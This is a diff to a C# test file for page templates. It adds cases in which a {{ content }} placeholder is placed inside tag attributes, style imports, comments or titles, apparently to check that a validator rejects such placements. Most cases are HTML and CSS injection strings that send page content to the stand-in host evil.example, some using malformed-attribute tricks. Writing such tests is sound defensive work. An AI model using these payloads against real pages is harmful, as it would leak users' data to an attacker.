@@ -83,6 +83,8 @@ public sealed class PageTemplatesTests
     [TestCase("<img src='https://evil.example/c?{{ content }}", "inside a tag or one of its attributes")]
     [TestCase("<img src=https://evil.example/c?{{ content }}>", "inside a tag or one of its attributes")]
     [TestCase("<p title=\"a > b\"></p><a title=\">\" href=\"https://evil.example/c?{{ content }}\">x</a>", "inside a tag or one of its attributes")]
+    [TestCase("<img a\"b src=\"https://evil.example/c?>{{ content }}\">", "inside a tag or one of its attributes")]
+    [TestCase("<img =\"b src=\"https://evil.example/c?>{{ content }}\">", "inside a tag or one of its attributes")]
     [TestCase("<style>p { color: red; }</style><STYLE>@import url(\"https://evil.example/c?{{ content }}\");</STYLE>", "inside a <style> element")]
     [TestCase("<!-- note --><!-- {{ content }} -->", "inside a comment")]
     [TestCase("<title>{{ content }}</title>", "inside a <title> element")]
